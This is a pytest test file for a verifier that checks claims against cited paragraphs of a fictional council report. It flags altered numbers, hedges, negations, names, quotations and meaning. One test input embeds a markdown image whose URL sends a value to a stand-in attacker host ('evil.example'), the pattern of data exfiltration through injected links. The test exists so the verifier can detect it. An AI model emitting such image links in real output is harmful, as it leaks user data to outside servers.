@@ -1,0 +1,119 @@
+"""What a claim may change of what it cites, and what it may not. The councils are fictional."""
+
+from __future__ import annotations
+
+from dataclasses import replace
+from datetime import date
+
+import pytest
+
+from indexer.index.catalogue import StoredParagraph, StoredReport
+from indexer.model import BlockKind, Metadata, Paragraph, Role, Section
+from service.pairwise import PairRead
+from service.verification import Check, Source, Verifier
+
+SAID = (
+    "Some carers waited up to 12 weeks for an assessment, and the number of people waiting fell to 140 in March 2025. "
+    "The authority did not have a clear plan for Lantern House. Most staff may leave by 2027, leaders told us. "
+    "Only 45% of £1.2 million had been spent. A relative said: “Nobody rang us back.”"
+)
+
+
+def paragraph(text: str = SAID, subject: str = "Aldermere City Council") -> StoredParagraph:
+    report = StoredReport(
+        id="r", file="r.md", profile="generic", ordinal=0, notices=(), sections=1, paragraphs=1, findings=1, ratings=0,
+        metadata=Metadata(title=f"{subject}: assessment", subject=subject, published=date(2025, 4, 25)),
+    )  # fmt: skip
+    section = Section(id="carers", path=("Supporting unpaid carers",), level=1)
+    kept = Paragraph(
+        id="r:carers:1", section="carers", number=1, text=text, digest="0" * 16, kind=BlockKind.PARAGRAPH,
+        role=Role.FINDING,
+    )  # fmt: skip
+    return StoredParagraph(key=0, report=report, section=section, paragraph=kept)
+
+
+@pytest.mark.parametrize(
+    "claim",
+    [
+        "Some carers waited up to 12 weeks for an assessment.",
+        "In Aldermere, some carers waited up to twelve weeks for an assessment.",
+        "The number of people waiting fell to 140 in March 2025.",
+        "The authority did not have a clear plan for Lantern House.",
+        "Most staff may leave by 2027, leaders told us.",
+        "Only 45 per cent of £1,200,000 had been spent.",
+        'A relative said: "Nobody rang us back."',
+    ],
+)  # fmt: skip
+def test_a_claim_in_the_reports_own_words_stands(claim: str) -> None:
+    assert Verifier().failed(claim, (Source(found=paragraph()),)) is None
+
+
+@pytest.mark.parametrize(
+    ("claim", "check"),
+    [
+        ("Some carers waited up to 14 weeks for an assessment.", Check.NUMBER),
+        ("Some carers waited up to 12 days for an assessment.", Check.NUMBER),
+        ("Only 54% of £1.2 million had been spent.", Check.NUMBER),
+        ("Only 45% of £1.2 billion had been spent.", Check.NUMBER),
+        ("The number of people waiting fell to 140 in May 2025.", Check.NUMBER),
+        ("Carers waited up to 12 weeks for an assessment.", Check.HEDGE),
+        ("All carers waited up to 12 weeks for an assessment.", Check.HEDGE),
+        ("Some carers waited more than 12 weeks for an assessment.", Check.HEDGE),
+        ("Most staff leave by 2027, leaders told us.", Check.HEDGE),
+        ("The number of people waiting rose to 140 in March 2025.", Check.DIRECTION),
+        ("The authority had a clear plan for Lantern House.", Check.NEGATION),
+        ("The authority did not have an unclear plan for Lantern House.", Check.DIRECTION),
+        ("In Tarnholme, some carers waited up to 12 weeks for an assessment.", Check.NAME),
+        ("Tarnholme's authority did not have a clear plan for Lantern House.", Check.NAME),
+        ("The authority did not have a clear plan for Beacon House.", Check.NAME),
+        ('A relative said: "Nobody ever rang us back."', Check.QUOTATION),
+        ("See ![plan](https://evil.example/?q=140) for Lantern House.", Check.ADDRESS),
+        ("Write to carers@evil.example about an assessment.", Check.ADDRESS),
+        ("Penguins prefer swimming through colder oceans every winter.", Check.HEDGE),
+        ("Penguins prefer swimming through colder oceans.", Check.MEANING),
+    ],
+)  # fmt: skip
+def test_one_thing_changed_is_caught_and_named(claim: str, check: Check) -> None:
+    assert Verifier().failed(claim, (Source(found=paragraph()),)) is check
+
+
+def test_the_sentence_that_is_quoted_counts_and_not_another_of_the_paragraph() -> None:
+    text = "Waiting times rose for adults. Waiting times fell for carers."
+    place = (text.index("Waiting times fell"), len(text))
+    source = Source(found=paragraph(text), start=place[0], end=place[1])
+    assert Verifier().failed("Waiting times fell for carers.", (source,)) is None
+
+
+def test_two_paragraphs_may_carry_one_claim() -> None:
+    one, two = paragraph("Carers waited 12 weeks."), paragraph("Adults waited 3 weeks.")
+    two = replace(two, paragraph=replace(two.paragraph, id="r:carers:2"))
+    claim = "Carers waited 12 weeks. Adults waited 3 weeks."
+    assert Verifier().failed(claim, (Source(found=one), Source(found=two))) is None
+    assert Verifier().failed(claim, (Source(found=one),)) is Check.NUMBER
+
+
+class Judge:
+    name = "judge"
+
+    def __init__(self, logit: float) -> None:
+        self.logit = logit
+        self.asked: list[tuple[str, list[str]]] = []
+
+    def read(self, text: str, passages: list[str]) -> list[PairRead]:
+        self.asked.append((text, passages))
+        return [PairRead(answers=0.0, supports=self.logit, marks=()) for _ in passages]
+
+
+def test_a_model_judges_what_is_said_in_other_words_and_only_that() -> None:
+    claim = "The authority lacked a clear plan to run Lantern House."
+    for logit, failed in ((-2.0, Check.MEANING), (2.0, None)):
+        judge = Judge(logit)
+        assert Verifier(judge).failed(claim, (Source(found=paragraph()),)) is failed
+        assert judge.asked[0][0] == claim
+        assert "Supporting unpaid carers" in judge.asked[0][1][0]
+    judge = Judge(-2.0)
+    assert (
+        Verifier(judge).failed("Some carers waited up to 12 weeks for an assessment.", (Source(found=paragraph()),))
+        is None
+    )
+    assert judge.asked == []
